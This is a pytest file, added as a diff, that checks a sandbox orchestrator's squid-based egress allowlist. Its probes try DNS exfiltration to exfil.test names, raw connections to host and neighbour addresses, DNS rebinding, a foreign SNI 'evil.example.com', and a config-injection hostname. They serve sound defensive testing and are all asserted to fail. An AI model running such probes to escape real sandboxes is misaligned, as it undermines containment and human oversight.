@@ -1,0 +1,596 @@
+"""Per-run egress control (issue 3), against the real Docker engine and real servers.
+
+The sandbox's way out is a squid egress container on a network private to the run. These
+tests try every way around it from inside a sandbox and check that each fails, is recorded,
+and that nothing reached the host's sink server; and that what is allowed works: the model
+endpoint on the Docker host (a scripted OpenAI-compatible server), an allowlisted name over
+HTTP and through CONNECT. Everything a test creates (containers, networks) is removed.
+
+What this machine offers for "allowed" traffic: no internet, but Debian's mirror
+deb.debian.org is reachable from containers on the default bridge, on port 80 and, through
+the machine's intercepting proxy, on 443 (with a certificate of that proxy, which is why the
+probe's TLS check does not verify the server: the tunnel is what is under test).
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import secrets
+import signal
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from orchestrator import RunSpec, Store, load_manifest, run
+from orchestrator.backends.base import NetworkPolicy
+from orchestrator.config import LABEL_KIND, LABEL_RUN_ID
+from orchestrator.egress import (
+    HOST_ALIAS,
+    KIND_EGRESS,
+    KIND_EGRESS_NETWORK,
+    is_docker_host,
+    parse_access_log,
+    resolve_policy,
+    sandbox_api_base,
+)
+from orchestrator.errors import ConfigError
+from orchestrator.models import parse_model
+from orchestrator.runner import prepare
+
+from .conftest import PAYLOADS, REPO, TEST_PAYLOADS, cli, our_containers, wait_for
+from .model_server import ScriptedModelServer, SinkServer, docker_bridge_address, host_address
+
+PROBE = TEST_PAYLOADS / "egress_probe"
+RESEARCH = PAYLOADS / "research_team"
+ALLOWED = "deb.debian.org"  # reachable from containers on the bridge (see the docstring)
+
+
+def events_of(result: Any) -> list[dict[str, Any]]:
+    path = Path(result.record_dir) / "events.jsonl"
+    return [json.loads(line) for line in path.read_text().splitlines()]
+
+
+def blocked_events(result: Any) -> list[dict[str, Any]]:
+    return [e for e in events_of(result) if e["type"] == "egress_blocked"]
+
+
+def probe_spec(attempts: list[dict[str, Any]], **kwargs: Any) -> RunSpec:
+    return RunSpec(payload=PROBE, additional_args={"attempts": json.dumps(attempts)}, **kwargs)
+
+
+def outcomes(result: Any) -> list[dict[str, Any]]:
+    assert result.status == "succeeded", (result.status, result.error)
+    return json.loads(result.answer)
+
+
+def our_networks(docker_client, store_label: str) -> list[dict]:
+    return docker_client.api.networks(filters={"label": [store_label]})
+
+
+@pytest.fixture
+def nothing_left(docker_client, store_label: str) -> Iterator[None]:
+    """Like `no_leftovers` (conftest), for the runs' networks too: fails the test if any
+    container or network of this test session is left when it ends, and removes them."""
+    yield
+    containers = our_containers(docker_client, store_label)
+    networks = our_networks(docker_client, store_label)
+    for container in containers:
+        docker_client.api.remove_container(container["Id"], force=True)
+    for network in networks:
+        docker_client.api.remove_network(network["Id"])
+    assert not containers, f"containers left behind: {[c['Names'] for c in containers]}"
+    assert not networks, f"networks left behind: {[n['Name'] for n in networks]}"
+
+
+@pytest.fixture
+def openai_key(monkeypatch: pytest.MonkeyPatch) -> str:
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-egress")
+    return "sk-test-egress"
+
+
+def research_outputs() -> list[str]:
+    """research_team's mock trajectory, in the order one shared model is asked."""
+    scripts = load_manifest(RESEARCH).mock_scripts
+    manager, librarian = scripts["manager"], scripts["librarian"]
+    return [manager[0], librarian[0], librarian[1], manager[1]]
+
+
+def run_in_thread(spec: RunSpec) -> tuple[threading.Thread, threading.Event, dict[str, Any]]:
+    box: dict[str, Any] = {}
+    cancel = threading.Event()
+
+    def target() -> None:
+        box["result"] = run(spec, cancel=cancel)
+
+    thread = threading.Thread(target=target)
+    thread.start()
+    return thread, cancel, box
+
+
+def stderr_of(run_id: str) -> str:
+    path = Store().run_dir(run_id) / "stderr.log"
+    return path.read_text() if path.is_file() else ""
+
+
+def container_of(docker_client, run_id: str, kind: str) -> dict[str, Any] | None:
+    found = docker_client.api.containers(
+        all=True, filters={"label": [f"{LABEL_RUN_ID}={run_id}", f"{LABEL_KIND}={kind}"]}
+    )
+    return docker_client.api.inspect_container(found[0]["Id"]) if found else None
+
+
+# ---- the policy (no Docker needed) ---------------------------------------------------------
+
+
+def test_policy_defaults_and_allowlist() -> None:
+    mock = parse_model("mock")
+    assert resolve_policy(None, model=mock, hosts=()).mode == "none"
+    policy = resolve_policy(None, model=mock, hosts=("API.example.com", "*.example.org"))
+    assert policy.mode == "allowlist"
+    assert policy.hosts == ("api.example.com", "*.example.org")
+    hosted = resolve_policy(None, model=parse_model("openai"), hosts=())
+    assert hosted.mode == "allowlist" and hosted.hosts == ("api.openai.com",)
+    hf = resolve_policy(None, model=parse_model("hf"), hosts=("x.example.com",))
+    assert hf.hosts == ("router.huggingface.co", "huggingface.co", "x.example.com")
+    odd_port = parse_model("openai", api_base="https://llm.example.net:8443/v1")
+    assert resolve_policy(None, model=odd_port, hosts=()).endpoints == (("llm.example.net", 8443),)
+    local = parse_model("openai", api_base="http://127.0.0.1:8080/v1")
+    policy = resolve_policy(None, model=local, hosts=())
+    assert policy.hosts == () and policy.host_endpoints == ((HOST_ALIAS, 8080),)
+    assert sandbox_api_base(local.api_base, policy) == f"http://{HOST_ALIAS}:8080/v1"
+    assert sandbox_api_base(local.api_base, NetworkPolicy("none")) == local.api_base
+    assert resolve_policy("open", model=mock, hosts=()).mode == "open"
+    with pytest.raises(ConfigError, match="Unknown network policy"):
+        resolve_policy("wide-open", model=mock, hosts=())
+
+
+def test_open_is_never_a_default(openai_key: str) -> None:
+    for model, hosts in (("mock", ()), ("openai", ()), ("mock", ("*.example.com",))):
+        prepared = prepare(RunSpec(payload=RESEARCH, model=model, allow_hosts=hosts))
+        assert prepared.network.mode in ("none", "allowlist")
+    with pytest.raises(ConfigError, match="allow-host"):
+        prepare(RunSpec(payload=RESEARCH, allow_hosts=("http://x.example.com/",)))
+
+
+def test_docker_host_addresses() -> None:
+    for name in ("localhost", "127.0.0.1", "0.0.0.0", "[::1]", docker_bridge_address()):
+        assert is_docker_host(name), name
+    assert is_docker_host(host_address())
+    assert not is_docker_host("api.openai.com") and not is_docker_host("203.0.113.80")
+
+
+def _render(policy: dict[str, Any]) -> tuple[str, str]:
+    path = REPO / "images" / "egress" / "entrypoint.py"
+    spec = importlib.util.spec_from_file_location("egress_entrypoint", path)
+    assert spec and spec.loader
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module.render(policy)
+
+
+def test_squid_rules_never_resolve_an_unlisted_name() -> None:
+    access, ssl = _render(
+        {
+            "hosts": ["api.example.com"],
+            "wildcards": ["example.org"],
+            "host_endpoints": [[HOST_ALIAS, 8080]],
+            "clients": ["172.30.0.0/16"],
+            "blocked_dst": ["192.0.2.2/32"],
+        }
+    )
+    rules = [line for line in access.splitlines() if line.startswith("http_access")]
+    # `blocked_dst` (a DNS lookup) only ever follows a listed-name ACL on the same rule.
+    for rule in rules:
+        if "blocked_dst" in rule:
+            assert rule.split()[2] in ("listed_names", "listed_wild"), rule
+    assert r"^([a-z0-9-]+\.)+example\.org$" in access  # subdomains only, not the apex
+    assert "dstdomain -n api.example.com" in access  # exact, no reverse lookups
+    assert "ssl_bump splice listed_sni" in ssl
+    with pytest.raises(ValueError):
+        _render({"hosts": ["bad name; http_access allow all"], "clients": ["10.0.0.0/8"]})
+    with pytest.raises(ValueError):
+        _render({"hosts": ["example.com"]})  # no client network: refuse to start
+
+
+def test_access_log_parsing() -> None:
+    log = "\n".join(
+        [
+            "ORCH\t1.500\t172.20.0.3\tGET\texample.com\t80\t403\tTCP_DENIED\t-\t-\tERR_ACCESS_DENIED",
+            "ORCH\t2.000\t172.20.0.3\tGET\tdeb.debian.org\t80\t200\tTCP_MISS\t-\t-\t-",
+            "ORCH\t3.000\t127.0.0.1\tCONNECT\tdeb.debian.org\t443\t200\tNONE_NONE\tevil.test"
+            "\tterminate\t-",
+            "2026/11/22 07:38:52| a cache.log line",
+        ]
+    )
+    blocked = parse_access_log(log)
+    assert [(b["host"], b["port"]) for b in blocked] == [
+        ("example.com", 80),
+        ("deb.debian.org", 443),
+    ]
+    assert blocked[0]["ts"] == 1.5 and blocked[1]["sni"] == "evil.test"
+
+
+# ---- acceptance 1: a payload with --model openai against a scripted server on the host ------
+
+
+@pytest.mark.docker
+def test_openai_payload_runs_through_the_allowlist(
+    agent_image: str, openai_key: str, nothing_left: None
+) -> None:
+    with ScriptedModelServer(research_outputs()) as server:
+        result = run(RunSpec(payload=RESEARCH, model="openai:scripted", api_base=server.api_base()))
+    assert result.status == "succeeded", result.error
+    assert str(result.answer).strip() == load_manifest(RESEARCH).example_answer
+    assert result.network == "allowlist"
+    assert result.allowlist == [f"{HOST_ALIAS}:{server.port} (the Docker host)"]
+    assert len(server.requests) == 4
+    # Every request came through the egress proxy, under the stable name, with the key.
+    for request in server.requests:
+        assert request["headers"]["Host"] == f"{HOST_ALIAS}:{server.port}"
+        assert request["headers"]["Authorization"] == f"Bearer {openai_key}"
+        assert request["body"]["model"] == "scripted"
+    record = json.loads((Path(result.record_dir) / "result.json").read_text())
+    assert record["network"] == "allowlist" and record["allowlist"] == result.allowlist
+    assert Store().get_run(result.run_id)["network"] == "allowlist"
+
+
+@pytest.mark.docker
+def test_openai_payload_under_none_fails_with_a_network_error(
+    agent_image: str, openai_key: str, nothing_left: None
+) -> None:
+    with ScriptedModelServer(research_outputs()) as server:
+        spec = RunSpec(
+            payload=RESEARCH, model="openai:scripted", api_base=server.api_base(), network="none"
+        )
+        result = run(spec)
+    assert result.status == "infra_error", (result.status, result.error)
+    assert "no network" in result.error["message"], result.error
+    assert result.network == "none" and result.allowlist == []
+    assert server.requests == []
+
+
+@pytest.mark.docker
+def test_model_server_on_loopback_only_gets_a_clear_hint(
+    agent_image: str, openai_key: str, nothing_left: None
+) -> None:
+    with ScriptedModelServer(research_outputs(), host="127.0.0.1") as server:
+        result = run(RunSpec(payload=RESEARCH, model="openai:scripted", api_base=server.api_base()))
+    assert result.status == "infra_error", (result.status, result.error)
+    assert "must listen on 0.0.0.0" in result.error["message"], result.error
+    assert server.requests == []
+
+
+# ---- acceptance 2 and 3: what an allowlisted sandbox cannot do, and what it can -------------
+
+
+def _listener_ip(docker_client, run_id: str) -> str:
+    info = container_of(docker_client, run_id, "sandbox")
+    assert info is not None
+    return info["NetworkSettings"]["Networks"][f"orchestrator-net-{run_id}"]["IPAddress"]
+
+
+@pytest.mark.docker
+def test_every_way_around_the_allowlist_fails_and_is_recorded(
+    agent_image: str, docker_client, openai_key: str, nothing_left: None
+) -> None:
+    bridge, host_ip = docker_bridge_address(), host_address()
+    exfil = f"{secrets.token_hex(6)}.exfil.test"
+    # Another sandbox, running at the same time, listening on its private address.
+    other_id = f"r-egress-other-{secrets.token_hex(4)}"
+    listen = probe_spec([{"kind": "listen", "port": 8000, "seconds": 45}], run_id=other_id)
+    other_thread, other_cancel, other_box = run_in_thread(listen)
+    script = load_manifest(PROBE).mock_scripts["manager"]
+    try:
+        wait_for(lambda: "listening on 8000" in stderr_of(other_id), timeout=120)
+        other_ip = _listener_ip(docker_client, other_id)
+        with SinkServer() as sink, ScriptedModelServer(script) as model:
+            attempts = [
+                # not on the allowlist: plain HTTP, HTTPS (urllib), a raw CONNECT
+                {"kind": "http", "url": "http://example.com/"},
+                {"kind": "http", "url": "https://example.com/"},
+                {"kind": "connect", "host": "example.com", "port": 443},
+                # raw IPs, directly and through the proxy
+                {"kind": "tcp", "host": "203.0.113.80", "port": 80},
+                {"kind": "http", "url": "http://203.0.113.80/"},
+                # DNS: an arbitrary name, and a listed one (the sandbox resolves nothing)
+                {"kind": "dns", "name": exfil},
+                {"kind": "dns", "name": ALLOWED},
+                # the host's sink: bridge address and host address, direct and proxied,
+                # and through the host alias on a port that is not the model's
+                {"kind": "tcp", "host": bridge, "port": sink.port},
+                {"kind": "tcp", "host": host_ip, "port": sink.port},
+                {"kind": "http", "url": f"http://{bridge}:{sink.port}/"},
+                {"kind": "http", "url": f"http://{host_ip}:{sink.port}/"},
+                {"kind": "http", "url": f"http://{HOST_ALIAS}:{sink.port}/"},
+                {"kind": "connect", "host": HOST_ALIAS, "port": sink.port},
+                # a listed name that resolves to loopback (DNS rebinding)
+                {"kind": "proxied", "url": "http://localhost/"},
+                {"kind": "proxied", "url": "http://ip6-localhost/"},
+                # the other sandbox
+                {"kind": "tcp", "host": other_ip, "port": 8000},
+                {"kind": "http", "url": f"http://{other_ip}:8000/"},
+                # a listed name on a port that is not 80/443
+                {"kind": "connect", "host": ALLOWED, "port": 22},
+                # allowed: the model endpoint, with another Host header (the proxy sends the
+                # URL's host: the server never sees the forged one)
+                {
+                    "kind": "proxied",
+                    "url": f"http://{HOST_ALIAS}:{model.port}/forged",
+                    "host": "example.com",
+                },
+                # allowed: HTTP and CONNECT to a listed name; but not with a foreign SNI
+                {"kind": "http", "url": f"http://{ALLOWED}/debian/"},
+                {"kind": "connect", "host": ALLOWED, "port": 443},
+                {"kind": "connect", "host": ALLOWED, "port": 443, "sni": "evil.example.com"},
+            ]
+            spec = probe_spec(
+                attempts,
+                model="openai:scripted",
+                api_base=model.api_base(),
+                allow_hosts=("localhost",),
+            )
+            result = run(spec)
+            # The model endpoint itself was reachable, and only under its own name.
+            assert [r["method"] for r in model.requests] == ["POST", "GET"], model.requests
+            assert {r["headers"]["Host"] for r in model.requests} == {f"{HOST_ALIAS}:{model.port}"}
+        assert sink.connections == [], sink.connections
+        other_thread.join(timeout=90)
+    finally:
+        other_cancel.set()
+        other_thread.join(timeout=60)
+    got = outcomes(result)
+    allowed = got[-3:-1]
+    for outcome in got[:-4] + got[-1:]:
+        assert outcome["ok"] is False, outcome
+    assert got[-4]["status"] == 404  # the forged Host: reached the model server (see above)
+    assert allowed[0]["ok"] and allowed[0]["status"] == 200, allowed
+    assert allowed[1]["ok"] and allowed[1]["status"] == 200, allowed
+    assert allowed[1]["reply"].startswith("HTTP/1.1 "), allowed
+    refused_connects = [o for o in got if o["kind"] == "connect" and o.get("sni") is None][:-1]
+    assert [o["status"] for o in refused_connects] == [403, 403, 403]  # plain 403s
+    assert "TLS" in got[-1]["error"]  # the foreign SNI was cut off
+    # The listening sandbox saw no connection at all.
+    assert other_box["result"].status == "succeeded", other_box["result"].error
+    assert outcomes(other_box["result"])[0]["connections"] == 0
+    # What squid refused is in the record, with host, port and time.
+    assert result.network == "allowlist"
+    assert result.allowlist == [
+        ALLOWED,
+        "localhost",
+        f"{HOST_ALIAS}:{model.port} (the Docker host)",
+    ]
+    proxied = {(e["host"], e["port"]) for e in blocked_events(result) if e["source"] == "egress"}
+    expected = {
+        ("example.com", 80),
+        ("example.com", 443),
+        ("203.0.113.80", 80),
+        (bridge, sink.port),
+        (host_ip, sink.port),
+        (HOST_ALIAS, sink.port),
+        ("localhost", 80),
+        ("ip6-localhost", 80),
+        (other_ip, 8000),
+        (ALLOWED, 22),
+    }
+    assert expected <= proxied, expected - proxied
+    # What never reached squid was seen in the sandbox (the runtime's audit hook).
+    direct = {(e["kind"], e["host"], e["port"]) for e in blocked_events(result)
+              if e["source"] == "sandbox"}  # fmt: skip
+    expected_direct = {
+        ("connect", "203.0.113.80", 80),
+        ("dns", exfil, 80),
+        ("dns", ALLOWED, 80),
+        ("connect", bridge, sink.port),
+        ("connect", host_ip, sink.port),
+        ("connect", other_ip, 8000),
+    }
+    assert expected_direct <= direct, expected_direct - direct
+    # ... and never the proxy itself, or the sandbox's own loopback.
+    assert not [d for d in direct if d[2] == 3128 or d[1] in ("127.0.0.1", "localhost")], direct
+    sni = [e for e in blocked_events(result) if e.get("sni") == "evil.example.com"]
+    assert sni and sni[0]["host"] == ALLOWED and sni[0]["port"] == 443
+    assert all(isinstance(e["ts"], float) for e in blocked_events(result))
+    record = json.loads((Path(result.record_dir) / "result.json").read_text())
+    assert record["egress_blocked"] == result.egress_blocked == len(blocked_events(result))
+
+
+_DEBUG_DNS = """
+import os, sys
+sys.path.insert(0, "/etc/squid/orchestrator")
+import entrypoint
+execv = os.execv
+def with_dns_debug(path, args):
+    with open(entrypoint.CONF, "a") as conf:
+        conf.write("debug_options ALL,1 78,3 14,4\\n")  # squid's DNS and IP cache
+    execv(path, args)
+os.execv = with_dns_debug
+entrypoint.main()
+"""
+
+
+@pytest.mark.docker
+def test_the_proxy_never_resolves_an_unlisted_name(
+    agent_image: str, docker_client, store_label: str, nothing_left: None
+) -> None:
+    """squid's own DNS log: unlisted names are refused unresolved (no DNS exfiltration through
+    the proxy), listed ones are resolved."""
+    from orchestrator.egress import ensure_egress_image
+
+    api = docker_client.api
+    labels = dict([store_label.split("=", 1)])
+    name = f"orchestrator-test-dns-{secrets.token_hex(4)}"
+    network = api.create_network(name, internal=True, options={}, labels=labels)
+    subnet = api.inspect_network(network["Id"])["IPAM"]["Config"][0]["Subnet"]
+    policy = {"hosts": [ALLOWED], "clients": [subnet]}
+    egress = api.create_container(
+        ensure_egress_image(docker_client),
+        entrypoint=["python3", "-c", _DEBUG_DNS],
+        environment={"EGRESS_POLICY": json.dumps(policy)},
+        labels=labels,
+        host_config=api.create_host_config(
+            network_mode="bridge", read_only=True, cap_drop=["ALL"],
+            tmpfs={path: "mode=1777" for path in ("/tmp", "/var/run/squid")},
+        ),
+    )  # fmt: skip
+    client = None
+    try:
+        api.connect_container_to_network(egress["Id"], network["Id"])
+        api.start(egress["Id"])
+        wait_for(lambda: api.logs(egress["Id"]).count(b"Accepting ") >= 2, timeout=30)
+        proxy = api.inspect_container(egress["Id"])["NetworkSettings"]["Networks"][name]
+        secret = secrets.token_hex(8)
+        script = (
+            "import socket\n"
+            f"for line in [b'GET http://{secret}.exfil.test/ HTTP/1.1', "
+            f"b'CONNECT {secret}.exfil.test:443 HTTP/1.1', b'GET http://{ALLOWED}/ HTTP/1.1']:\n"
+            f"    s = socket.create_connection(('{proxy['IPAddress']}', 3128), timeout=10)\n"
+            "    s.sendall(line + b'\\r\\nHost: x\\r\\n\\r\\n')\n"
+            "    print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
+        )
+        client = api.create_container(
+            agent_image, ["python", "-c", script], labels=labels,
+            host_config=api.create_host_config(network_mode=name, dns=["127.0.0.1"]),
+        )  # fmt: skip
+        api.start(client["Id"])
+        assert api.wait(client["Id"], timeout=60)["StatusCode"] == 0
+        replies = api.logs(client["Id"], stderr=False).decode().split("\n")
+        assert [r.split()[1] for r in replies if r] == ["403", "403", "200"], replies
+        dns = [
+            line
+            for line in api.logs(egress["Id"], stdout=False).decode().splitlines()
+            if "idnsALookup" in line or "ipcache_nbgethostbyname" in line
+        ]
+        assert [line for line in dns if ALLOWED in line], "the listed name was not resolved"
+        assert not [line for line in dns if secret in line], "an unlisted name was resolved"
+    finally:
+        for container in (client, egress):
+            if container is not None:
+                api.remove_container(container["Id"], force=True)
+        api.remove_network(network["Id"])
+
+
+# ---- acceptance 4: the egress container dies mid-run ----------------------------------------
+
+
+@pytest.mark.docker
+def test_killing_the_egress_container_fails_closed(
+    agent_image: str, docker_client, nothing_left: None
+) -> None:
+    run_id = f"r-egress-kill-{secrets.token_hex(4)}"
+    poll = {"kind": "poll", "url": f"http://{ALLOWED}/debian/", "seconds": 60, "interval": 0.1}
+    thread, cancel, box = run_in_thread(probe_spec([poll], run_id=run_id))
+    try:
+        wait_for(lambda: " ok" in stderr_of(run_id), timeout=120)
+        egress = container_of(docker_client, run_id, KIND_EGRESS)
+        sandbox = container_of(docker_client, run_id, "sandbox")
+        network = docker_client.api.inspect_network(f"orchestrator-net-{run_id}")
+        killed_at = time.time()
+        docker_client.api.kill(egress["Id"])
+        thread.join(timeout=30)
+        assert not thread.is_alive(), "the run did not end after its egress proxy died"
+    finally:
+        cancel.set()
+        thread.join(timeout=60)
+    result = box["result"]
+    assert result.status == "infra_error", (result.status, result.error)
+    assert result.error["type"] == "network_lost", result.error
+    assert result.timings["ended"] - killed_at < 10
+    # No request got through once the proxy was gone.
+    polls = [line.split() for line in stderr_of(run_id).splitlines() if line.startswith("poll ")]
+    assert not [p for p in polls if float(p[1]) > killed_at + 0.05 and p[2] == "ok"], polls
+    # While it ran, everything was as hardened as designed.
+    _assert_hardened(egress, sandbox, network, run_id)
+
+
+def _assert_hardened(egress: dict, sandbox: dict, network: dict, run_id: str) -> None:
+    host = egress["HostConfig"]
+    assert egress["Config"]["User"] == "proxy:proxy"
+    assert host["CapDrop"] == ["ALL"] and not host["CapAdd"]
+    assert not host["Privileged"] and host["ReadonlyRootfs"] is True
+    assert "no-new-privileges:true" in host["SecurityOpt"]
+    assert host["Memory"] > 0 and host["PidsLimit"] > 0 and host["NanoCpus"] > 0
+    assert not host.get("Binds") and "docker.sock" not in json.dumps(egress)
+    assert egress["Config"]["Labels"][LABEL_RUN_ID] == run_id
+    assert egress["Config"]["Labels"][LABEL_KIND] == KIND_EGRESS
+    assert set(egress["NetworkSettings"]["Networks"]) == {"bridge", f"orchestrator-net-{run_id}"}
+    assert set(sandbox["NetworkSettings"]["Networks"]) == {f"orchestrator-net-{run_id}"}
+    assert sandbox["HostConfig"]["Dns"] == ["127.0.0.1"]
+    env = dict(item.split("=", 1) for item in sandbox["Config"]["Env"])
+    assert env["HTTPS_PROXY"] == env["http_proxy"] and env["HTTPS_PROXY"].endswith(":3128")
+    assert network["Internal"] is True
+    assert network["Options"]["com.docker.network.bridge.inhibit_ipv4"] == "true"
+    assert network["Labels"][LABEL_KIND] == KIND_EGRESS_NETWORK
+    assert network["Labels"][LABEL_RUN_ID] == run_id
+
+
+# ---- acceptance 5: open only when named -----------------------------------------------------
+
+
+@pytest.mark.docker
+def test_open_works_only_when_named_and_is_recorded(agent_image: str, nothing_left: None) -> None:
+    direct = [{"kind": "tcp", "host": "203.0.113.80", "port": 80}]
+    opened = run(probe_spec(direct, network="open"))
+    assert outcomes(opened)[0]["ok"] is True
+    assert opened.network == "open" and opened.allowlist == []
+    record = json.loads((Path(opened.record_dir) / "result.json").read_text())
+    assert record["network"] == "open"
+    assert Store().get_run(opened.run_id)["network"] == "open"
+    started = [e for e in events_of(opened) if e["type"] == "sandbox_created"]
+    assert started[0]["network"] == "open"
+    default = run(probe_spec(direct))
+    assert outcomes(default)[0]["ok"] is False
+    assert default.network == "allowlist"
+
+
+@pytest.mark.docker
+def test_open_reaches_a_model_server_on_the_host_too(
+    agent_image: str, openai_key: str, nothing_left: None
+) -> None:
+    with ScriptedModelServer(research_outputs()) as server:
+        spec = RunSpec(
+            payload=RESEARCH, model="openai:scripted", api_base=server.api_base(), network="open"
+        )
+        result = run(spec)
+    assert result.status == "succeeded", result.error
+    assert result.network == "open"
+    assert {r["headers"]["Host"] for r in server.requests} == {f"{HOST_ALIAS}:{server.port}"}
+
+
+# ---- cleanup after a crash ------------------------------------------------------------------
+
+
+@pytest.mark.docker
+def test_cleanup_removes_a_crashed_runs_proxy_and_network(
+    agent_image: str, docker_client, store_label: str, nothing_left: None
+) -> None:
+    poll = {"kind": "poll", "url": f"http://{ALLOWED}/debian/", "seconds": 60, "interval": 0.5}
+    args = ["run", str(PROBE), "--arg", "attempts=" + json.dumps(json.dumps([poll]))]
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "orchestrator", *args],
+        cwd=REPO,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    kinds: Callable[[], set[str]] = lambda: {  # noqa: E731
+        c["Labels"].get(LABEL_KIND) for c in our_containers(docker_client, store_label)
+    }
+    try:
+        wait_for(lambda: kinds() == {"sandbox", KIND_EGRESS}, timeout=120)
+    finally:
+        proc.send_signal(signal.SIGKILL)
+        proc.wait(timeout=10)
+    assert our_networks(docker_client, store_label), "the orphaned network should be there"
+    out = cli("cleanup")
+    assert out.returncode == 0, out.stderr
+    assert f"removed {KIND_EGRESS} " in out.stdout and f"removed {KIND_EGRESS_NETWORK} " in (
+        out.stdout
+    ), out.stdout
+    assert not our_containers(docker_client, store_label)
+    assert not our_networks(docker_client, store_label)
